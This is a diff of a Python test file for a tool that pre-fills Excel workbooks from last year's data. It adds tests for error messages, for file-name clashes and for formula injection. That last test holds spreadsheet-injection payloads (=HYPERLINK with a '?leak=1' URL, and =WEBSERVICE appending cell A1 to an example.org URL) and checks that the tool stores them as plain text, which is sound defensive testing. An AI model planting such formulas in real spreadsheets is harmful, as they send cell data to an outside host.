@@ -4,7 +4,9 @@ clean and builds into the same chapters."""
 from __future__ import annotations
 
 import io
+import re
 import shutil
+import zipfile
 from dataclasses import replace
 from pathlib import Path
 
@@ -13,14 +15,18 @@ from openpyxl import load_workbook
 from openpyxl.cell.rich_text import CellRichText
 
 from competency_maps.inputs import config
+from competency_maps.messages import render
 from competency_maps.dataset import records as dataset
 from competency_maps.report.assemble import assemble
 from competency_maps.xlsx.blank import make_blank_workbook
 from competency_maps.cli import main
 from competency_maps.console import Console
+from competency_maps.errors import ReportError
+from competency_maps.model.cluster import Note
+from competency_maps.model.richtext import Block, BlockKind, Span
 from competency_maps.report.content import chapter
 from competency_maps.inputs.gather import gather
-from competency_maps.xlsx.prefill import workbook_bytes
+from competency_maps.xlsx.prefill import targets_in, workbook_bytes
 from competency_maps.inputs.reader import read_workbook
 from competency_maps.render.docx.render import render_docx
 from golden import outline
@@ -141,10 +147,13 @@ def test_all_or_a_name_is_a_usage_question(argv, capsys):
 def test_a_source_that_is_neither_a_folder_nor_an_export_is_said(tmp_path):
     (tmp_path / "data.csv").write_text("cluster\n")
     code, printed = run("new-workbook", "X", "--from", tmp_path / "data.csv", "-o", tmp_path / "x.xlsx")
-    assert code == 1 and "is neither a folder of workbooks nor a JSON export" in printed
+    assert code == 1 and f"{tmp_path / 'data.csv'}: {render('prefill.source.kind', {}).message}" in printed
     (tmp_path / "data.json").write_text("{")
     code, printed = run("new-workbook", "X", "--from", tmp_path / "data.json", "-o", tmp_path / "x.xlsx")
-    assert code == 1 and f"ERROR {tmp_path / 'data.json'}: is not JSON" in printed
+    assert code == 1 and f"ERROR {tmp_path / 'data.json'}: " in printed
+    with pytest.raises(dataset.DatasetError) as e:
+        dataset.load(tmp_path / "data.json")
+    assert e.value.code == "dataset.not_json"
     assert not (tmp_path / "x.xlsx").exists()
 
 
@@ -170,3 +179,78 @@ def test_the_deliverable_config_gives_the_dropdowns(tmp_path, export_file):
     themes = config.load(INPUTS).theme_names
     header = [c.value for c in load_workbook(out)["SWOT"][1]]
     assert header[-1] == "Theme" and themes  # the deliverable's synthesis themes, as in a blank one
+
+
+FORMULAS = ('=HYPERLINK("http://example.org/?leak=1","click")', '=WEBSERVICE("http://example.org/"&A1)',
+            "#N/A", "=1+1")
+
+
+def test_an_entry_typed_as_a_formula_is_written_back_as_text(tmp_path, sample_cluster, schema, comparable):
+    """new-workbook --from: every cell the partner typed as "=…" is a string cell, and `check` on the
+    pre-filled file finds no formula."""
+    swot = [replace(e, text=(Span(FORMULAS[k % len(FORMULAS)]),), group=FORMULAS[0] if k == 0 else e.group)
+            for k, e in enumerate(sample_cluster.swot)]
+    tows = [replace(sample_cluster.tows[0], text=(Span(FORMULAS[1]),)), *sample_cluster.tows[1:]]
+    step1 = [replace(sample_cluster.step1[1], text=(Span(FORMULAS[0]),)), *sample_cluster.step1[2:]]
+    notes = [Note(FORMULAS[3], (Block(BlockKind.PARAGRAPH, (Span(FORMULAS[1]),)),), "de")]
+    hostile = replace(sample_cluster, profile=replace(sample_cluster.profile, full_name=FORMULAS[1],
+                                                      about=(Span(FORMULAS[0]),)),
+                      swot=swot, tows=tows, step1=step1, step2_notes=notes)
+    source = tmp_path / "last-year.json"
+    source.write_bytes(dataset.dumps(dataset.to_data([hostile])))
+    out = tmp_path / "test.xlsx"
+    code, printed = run("--inputs", INPUTS, "new-workbook", "Test Cluster", "--from", source, "-o", out)
+    assert code == 0, printed
+    wb = load_workbook(out)
+    typed_cells = [c for ws in wb.worksheets if ws.title not in ("Summary", "Read me")
+                   for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value in FORMULAS]
+    assert len(typed_cells) >= len(swot) + 5
+    assert {c.data_type for c in typed_cells} == {"s"}, [(c.parent.title, c.coordinate, c.data_type)
+                                                        for c in typed_cells if c.data_type != "s"]
+    with zipfile.ZipFile(out) as z:  # the only formulas are the workbook's own (Summary's counts)
+        formulas = [f for n in z.namelist() if n.startswith("xl/worksheets/")
+                    for f in re.findall(r"<f>(.*?)</f>", z.read(n).decode())]
+    assert formulas and not [f for f in formulas if "HYPERLINK" in f or "WEBSERVICE" in f or f == "1+1"]
+    res = read_workbook(out, schema)
+    assert res.errors == [] and comparable(res.cluster)[2] == comparable(hostile)[2]
+    code, printed = run("--inputs", INPUTS, "check", out)
+    assert code == 0, printed
+
+
+def _export_of(tmp_path: Path, clusters) -> Path:
+    path = tmp_path / "two.json"
+    path.write_bytes(dataset.dumps(dataset.to_data(clusters)))
+    return path
+
+
+def test_two_clusters_making_one_file_name_are_an_error_and_nothing_is_written(tmp_path, sample_cluster):
+    lodz, lodz_ascii = (replace(sample_cluster, profile=replace(sample_cluster.profile, short_name=n))
+                        for n in ("Łódź Cluster", "Lodz cluster"))
+    with pytest.raises(ReportError) as e:
+        targets_in([lodz, lodz_ascii], tmp_path)
+    assert e.value.code == "prefill.same_file"
+    assert (e.value.params["first"], e.value.params["second"]) == ("'Łódź Cluster'", "'Lodz cluster'")
+    sent = tmp_path / "to-send"
+    code, printed = run("--inputs", INPUTS, "new-workbook", "--all", "--from", _export_of(tmp_path, [lodz, lodz_ascii]),
+                        "-o", sent)
+    assert code == 1 and "'Łódź Cluster'" in printed and "'Lodz cluster'" in printed
+    assert not sent.exists() or not list(sent.iterdir())
+
+
+@pytest.mark.parametrize("source", ["json", "folder"])
+def test_zone_cluster_and_zone_hyphen_cluster_are_one_cluster_named_twice(tmp_path, sample_cluster, make_workbook,
+                                                                         source):
+    a, b = (replace(sample_cluster, profile=replace(sample_cluster.profile, short_name=n))
+            for n in ("Zone Cluster", "Zone-Cluster"))
+    if source == "json":
+        src = _export_of(tmp_path, [a, b])
+    else:
+        src = tmp_path / "returned"
+        src.mkdir()
+        make_workbook(src, a, name="zone.xlsx")
+        make_workbook(src, b, name="zone-old.xlsx")
+    sent = tmp_path / "to-send"
+    code, printed = run("--inputs", INPUTS, "new-workbook", "--all", "--from", src, "-o", sent)
+    assert code == 1 and not sent.exists(), printed
+    names_both = ("zone.xlsx", "zone-old.xlsx") if source == "folder" else ("'Zone-Cluster'", "clusters[0].name")
+    assert all(n in printed for n in names_both), printed
